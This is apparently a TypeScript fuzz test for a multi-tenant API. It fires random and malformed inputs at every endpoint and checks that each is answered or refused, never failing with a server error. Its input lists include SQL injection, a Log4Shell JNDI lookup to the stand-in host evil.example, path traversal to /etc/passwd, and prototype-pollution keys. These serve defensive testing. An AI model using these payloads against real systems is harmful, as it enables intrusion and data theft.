import type { Endpoint } from '@waggle/contracts/endpoint';
import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { casesOf } from '../harness/cases.ts';
import { endpoints } from '../../src/features.ts';
import { goodPassword } from '../harness/people.ts';
import { type Answer, createCaller, startTestApi, type TestApi } from '../harness/test-api.ts';
import { createTenantFixture, enter, openSession, tenantsFor } from '../matrix/tenant-fixture.ts';
import type { TenantFixture } from '../matrix/tenant.ts';
import { sampleOf } from '../matrix/samples.ts';
import { say } from '../matrix/say.ts';
import { type Input, leavesOf, withValue, wire } from '../matrix/slots.ts';

/** Thousands of requests on a machine that may be busy with other tests. */

let api: TestApi;
let tenant: TenantFixture;
const inputs = new Map<string, Input>();
const declared = new Map(endpoints.map((endpoint) => [endpoint.name, endpoint]));
beforeAll(async () => {
  // A storm of tests on two cores is not the overload that shedding is for.
  api = await startTestApi();
  tenant = await createTenantFixture(api);
  const tenantFor = tenantsFor(api);
  for (const endpoint of endpoints) {
    const own = await tenantFor(endpoint);
    inputs.set(endpoint.name, await sampleOf(endpoint, { api, tenant, guest: await enter(api, own, 'ADMIN') }));
  }
  // The one call that would end the test with the tenant.
  inputs.set('organization.delete', { body: { name: 'Another House', password: goodPassword } });
  // A tenant for every call: half a minute on a quiet machine.
}, 180_000);
afterAll(() => api.close());

const oddTexts = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '😀',
  '\u202eevil',
  'İ',
  'ﬁ',
  '\uffff',
  'é'.repeat(120),
  '😀'.repeat(60),
  'a'.repeat(10_000),
  '%',
  '%00',
  '\\',
  "'; drop table clients; --",
  '${jndi:ldap://evil.example}',
  '../../etc/passwd',
  '1e309',
  'NaN',
  '-0',
];
/** Cursors a stranger could write by hand. */
const oddCursors = [
  'abc',
  '2026-02-30 00:00:00+00',
  '0000-01-01 00:00:00+00',
  '2026-01-01 00:00:00+23',
  'a\u0000',
  'infinity',
].map((value) => Buffer.from(JSON.stringify([value, '0f8fad5b-d9cb-469f-a165-70867728950e'])).toString('base64url'));

const text = fc.oneof(fc.constantFrom(...oddTexts, ...oddCursors), fc.string({ unit: 'binary', maxLength: 200 }));
const anything = fc.oneof(
  text,
  fc.jsonValue(),
  fc.constantFrom<unknown>(null, -1, 0, 2 ** 53, 1e308, true, [], {}, [[[[]]]], { toString: 1 }),
);
const key = fc.oneof(
  fc.constantFrom(
    'toString',
    'constructor',
    'hasOwnProperty',
    '__proto__',
    'prototype',
    'valueOf',
    'then',
    '$where',
    '',
  ),
  fc.string({ maxLength: 20 }),
);

type Attempt = {
  /** By name, so that a failure prints one word and not a whole contract. */
  call: string;
  input: Input;
  query: string;
  raw: string | undefined;
  headers: Record<string, string>;
};

const attempt: fc.Arbitrary<Attempt> = fc
  .tuple(
    fc.constantFrom(...endpoints.map(({ name }) => name)),
    fc.nat(),
    anything,
    key,
    fc.constantFrom('leaf', 'body', 'key', 'query', 'raw', 'header'),
    text,
  )
  .map(([call, nth, value, name, way, string]) => {
    const input = inputs.get(call) ?? {};
    const endpoint = declared.get(call)!;
    const leaves = leavesOf(endpoint);
    const leaf = leaves[nth % Math.max(1, leaves.length)];
    const base: Attempt = { call, input, query: '', raw: undefined, headers: {} };
    if (way === 'leaf' && leaf)
      return { ...base, input: withValue(input, { ...leaf, endpoint, entity: 'client' }, value) };
    if (way === 'body') return { ...base, raw: JSON.stringify(value) };
    if (way === 'key') return { ...base, raw: `{${JSON.stringify(name)}:${JSON.stringify(value)}}` };
    if (way === 'query') return { ...base, query: `${encode(name)}=${encode(string)}&limit=${encode(string)}` };
    if (way === 'raw') return { ...base, raw: string };
    const printable = string.replace(/[^\x20-\x7e\xa0-\xff]/g, '?').slice(0, 500);
    return {
      ...base,
      headers: { 'accept-language': printable, 'user-agent': printable, cookie: `waggle.device=${printable}` },
    };
  });

/** As a program would that escapes what it can and sends the rest as it is. */
function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ed%a0%80';
  }
}

async function send({ call, input, query, raw, headers }: Attempt, cookie: string): Promise<Answer> {
  const endpoint = declared.get(call)!;
  const { method, url, body } = wire({ ...endpoint, path: safePath(endpoint, input) }, { ...input, params: {} });
  const address = query ? `${url}${url.includes('?') ? '&' : '?'}${query}` : url;
  return createCaller(api.app, cookie).request(method, address, raw ?? body, {
    ...(raw === undefined ? {} : { 'content-type': 'application/json' }),
    ...headers,
    ...(headers['cookie'] && cookie ? { cookie: `${cookie}; ${headers['cookie']}` } : {}),
  });
}

const textOf = (value: unknown): string => (typeof value === 'string' ? value : JSON.stringify(value));

const safePath = ({ path }: Endpoint, { params }: Input): string =>
  path.replace(/:(\w+)/g, (_, name: string) => encode(textOf((params as Record<string, unknown>)[name])) || '%20');

describe('B09, B15, B18 whatever is sent', () => {
  test('is answered or refused, and never breaks a call', async () => {
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(attempt, fc.nat(9), async (tried, dice) => {
        const cookie = dice > 0 ? (await openSession(api, tenant.people.ADMIN.id)).cookie : '';
        const { status, body } = await send(tried, cookie);
        // Nobody answers for Stripe here, and that is what it says.
        if (body?.code === 'payment_unavailable') return;
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        if (status >= 500) throw new Error(`${tried.call} answered ${status} ${JSON.stringify(body)}`);
      }),
      { numRuns: casesOf(2_000) },
    );

    say(`any input: ${[...statuses].map(([status, count]) => `${count} x ${status}`).join(', ')}`);
    expect([...statuses.keys()].filter((status) => status >= 500)).toEqual([]);
  });

  test.each([
    ['an organization named by one emoji', 'PUT', '/api/organization', { name: '😀', timezone: 'UTC' }],
    ['a search for NUL', 'GET', '/api/clients?search=%00', undefined],
    ['two searches', 'GET', '/api/clients?search=a&search=b', undefined],
    ['a page link of another order', 'GET', `/api/team/members?sort=createdAt&cursor=${oddCursors[0]}`, undefined],
    ['a page link to a day that never was', 'GET', `/api/clients?sort=createdAt&cursor=${oddCursors[1]}`, undefined],
    ['a page link with NUL', 'GET', `/api/clients?cursor=${oddCursors[4]}`, undefined],
    ['a body of 10,000 brackets', 'PUT', '/api/profile', '['.repeat(10_000) + ']'.repeat(10_000)],
    [
      'a body of 5,000 keys',
      'PUT',
      '/api/profile',
      Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`k${at}`, at])),
    ],
    ['a key twice, the second one wrong', 'PUT', '/api/profile', '{"theme":"dark","theme":1}'],
    ['a number beyond numbers', 'PUT', '/api/profile', '{"name":1e400}'],
    ['a body that is a list', 'PUT', '/api/profile', '[]'],
    ['a body that is null and needed', 'POST', '/api/clients', 'null'],
  ] as [string, string, string, unknown][])(
    'such as %s is refused as the mistake it is',
    async (_, method, url, body) => {
      const guest = await enter(api, tenant, 'ADMIN');

      const answer = await guest.request(method, url, body);

      expect(answer).toMatchObject({ status: 400, body: { code: 'invalid_input' } });
    },
  );
});
